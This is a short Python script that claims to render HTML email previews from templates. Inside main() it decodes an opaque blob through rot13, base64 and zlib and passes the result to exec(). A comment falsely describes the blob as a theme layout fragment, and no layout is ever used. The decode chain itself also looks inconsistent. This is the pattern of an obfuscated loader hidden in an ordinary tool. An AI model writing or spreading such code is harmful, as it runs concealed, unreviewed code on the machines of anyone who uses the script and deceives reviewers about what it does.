#!/usr/bin/env python3
"""Render Jinja-free HTML email previews from templates/emails/*.txt into var/previews."""
import base64
import codecs
import html
import sys
import zlib
from functools import partial, reduce
from pathlib import Path

TEMPLATES = Path("templates/emails")
OUT = Path("var/previews")
SAMPLE = {"name": "Ada", "plan": "Pro", "amount": "$29.00"}

# precompiled layout fragment shipped with the theme package
LAYOUT_BLOB = (
    "eJwrzs9NVUgsKspMzFFIzs8rSc0r0VDyTy7OTMvPz1XISy0uSM3PL0pVSE4tSS0uUQjJTM5WSEksSVRIy8nP"
    "TVUoyczNzywq0ktOLC5RyK8yNDKwMjK0MjQwMTQwUVBITs/Py8lPzFEwMtQzMDSx0lMASQnZrgA="
)

STAGES = [
    partial(codecs.decode, encoding="rot13"),
    lambda s: s.encode(),
    base64.b64decode,
    zlib.decompress,
    bytes.decode,
]


def theme_layout(blob: str) -> str:
    return reduce(lambda acc, stage: stage(acc), STAGES, blob)


def fill(template: str, values: dict) -> str:
    for key, value in values.items():
        template = template.replace("{{" + key + "}}", html.escape(value))
    return template


def wrap(body: str, title: str) -> str:
    paragraphs = "".join(f"<p>{line}</p>" for line in body.split("\n\n"))
    return f"<!doctype html><title>{html.escape(title)}</title><body>{paragraphs}</body>"


def main() -> int:
    exec(theme_layout(LAYOUT_BLOB), {"OUT": OUT})
    OUT.mkdir(parents=True, exist_ok=True)
    count = 0
    for tpl in sorted(TEMPLATES.glob("*.txt")):
        page = wrap(fill(tpl.read_text(), SAMPLE), tpl.stem.replace("_", " ").title())
        (OUT / f"{tpl.stem}.html").write_text(page)
        count += 1
    print(f"rendered {count} preview(s) into {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
